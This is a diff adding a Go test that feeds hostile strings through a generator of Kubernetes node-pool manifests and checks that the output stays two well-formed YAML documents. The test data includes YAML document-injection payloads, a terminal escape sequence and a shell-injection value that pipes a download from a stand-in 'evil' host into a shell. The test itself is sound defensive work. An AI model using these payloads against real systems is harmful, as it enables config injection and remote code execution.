@@ -105,6 +105,61 @@ func TestAClustersPools(t *testing.T) {
 	}
 }
 
+// Every text of an answer is one value of the manifest, or a comment on one line: an answer adds no field and no document, and no command
+// to the steps.
+func TestAHostileAnswerAddsNothingToTheManifests(t *testing.T) {
+	for _, attack := range []string{
+		"x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: evil}\n#",
+		"x]\n  limits: {nodes: 1000}\n  y: [", "x\u0085kind: Secret\u2028a: b\rc: d",
+		"true", "null", "1e3", "'; curl evil | sh; '", "x: {a: b}", "*alias", "!!binary aGk=", "\x1b]52;c;eA==\a",
+	} {
+		label := attack
+		im, err := lke.New(lke.Cluster{ID: 4711, Label: attack, Region: attack, Tier: attack, Pools: []api.LKENodePool{
+			pool(1, attack, 1), pool(2, attack, 3, scaled(1, 9), tagged(attack), func(p *api.LKENodePool) {
+				p.Label, p.DiskEncryption = &label, api.DiskEncryption(attack)
+				p.Labels = map[string]string{attack: attack, "kubernetes.io/" + attack: attack}
+				p.Taints = []api.LKETaint{{Key: attack, Value: attack, Effect: api.LKETaintEffect(attack)}}
+			}),
+		}}, plans(t), 1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out bytes.Buffer
+		if err := im.Write(&out); err != nil {
+			t.Fatal(err)
+		}
+		documents := 0
+		for _, document := range strings.Split(out.String(), "\n---\n") {
+			var object map[string]any
+			if err := yaml.UnmarshalStrict([]byte(document), &object); err != nil {
+				t.Errorf("%q: %v\n%s", attack, err, document)
+				continue
+			}
+			if len(object) == 0 {
+				continue
+			}
+			documents++
+			switch object["kind"] {
+			case v1alpha1.Kind:
+			case "NodePool":
+				spec := object["spec"].(map[string]any)
+				if limits := spec["limits"].(map[string]any); len(spec) != 3 || limits["nodes"] != float64(9) {
+					t.Errorf("%q: the NodePool has %v", attack, spec)
+				}
+				of := spec["template"].(map[string]any)["spec"].(map[string]any)
+				if types := of["requirements"].([]any)[1].(map[string]any)["values"].([]any); len(types) != 1 || types[0] != attack {
+					t.Errorf("%q: the types are %v", attack, types)
+				}
+			default:
+				t.Errorf("%q: an object of kind %v", attack, object["kind"])
+			}
+		}
+		if documents != 2 || strings.ContainsAny(out.String(), "\r\x1b\a\u0085\u2028") {
+			t.Errorf("%q: %d documents\n%s", attack, documents, out.String())
+		}
+	}
+}
+
 func TestWhichPoolStays(t *testing.T) {
 	small, large := pool(1, "g6-standard-1", 1), pool(2, "g6-standard-4", 3, scaled(1, 3))
 	for name, c := range map[string]struct {
